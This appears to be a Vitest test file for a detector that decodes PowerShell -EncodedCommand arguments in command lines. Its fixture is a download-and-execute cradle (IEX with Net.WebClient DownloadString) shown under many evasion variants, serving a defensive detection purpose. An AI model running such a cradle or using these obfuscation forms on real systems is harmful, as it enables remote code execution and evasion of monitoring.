import { expect, it } from 'vitest'
import { encodedCommand } from '../../../src/verbs/process/encoded-command.ts'

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x/')"
const BASE64 = Buffer.from(SCRIPT, 'utf16le').toString('base64')
const WORD = 'EncodedCommand'

it('reads -EncodedCommand in each of its abbreviations, in any case', () => {
  for (let length = 1; length <= WORD.length; length++) {
    for (const word of [WORD.slice(0, length), WORD.slice(0, length).toUpperCase()])
      expect(encodedCommand(`powershell.exe -NoP -${word} ${BASE64}`), word).toBe(SCRIPT)
  }
})

it.each([
  `powershell -ec ${BASE64}`,
  `powershell /enc ${BASE64}`,
  `powershell \u2013enc ${BASE64}`,
  `powershell \u2014e ${BASE64}`,
  `powershell -enc "${BASE64}"`,
  `powershell  -e   ${BASE64} -NoExit`,
  `cmd.exe /c "powershell -enc ${BASE64}"`,
  `C:\\Users\\Public\\renamed.exe -enc ${BASE64}`,
  `powershell -enc:${BASE64}`,
  `pwsh.exe -Exec Bypass -EncodedCommand ${BASE64}`,
])('reads it in %s', line => {
  expect(encodedCommand(line)).toBe(SCRIPT)
})

it('reads the rest of a command line that was cut off', () => {
  expect(encodedCommand(`powershell -enc ${BASE64.slice(0, 41)}`)).toBe(SCRIPT.slice(0, 15))
})

it('reads scripts in other languages', () => {
  const text = 'Write-Host "Grüße, привет"'
  expect(encodedCommand(`powershell -e ${Buffer.from(text, 'utf16le').toString('base64')}`)).toBe(text)
})

it.each([
  '',
  'notepad.exe',
  'grep -e somepattern file',
  `tool.exe --enc ${BASE64}`,
  `powershell -ex ${BASE64}`,
  'openssl enc -e AAAAAAAAAAAA',
  'powershell -ExecutionPolicy Bypass -File C:\\Scripts\\collect.ps1',
  `powershell -encodedcommandx ${BASE64}`,
  'powershell -e abcdefghijklmnop',
  'powershell -enc not base64 at all',
])('finds no encoded command in %s', line => {
  expect(encodedCommand(line)).toBeUndefined()
})

it('takes linear time for a line of a megabyte without an encoded command', () => {
  expect(encodedCommand(` -e${' -enc'.repeat(200_000)}`)).toBeUndefined()
  expect(encodedCommand(` -e${' '.repeat(1_000_000)}`)).toBeUndefined()
})
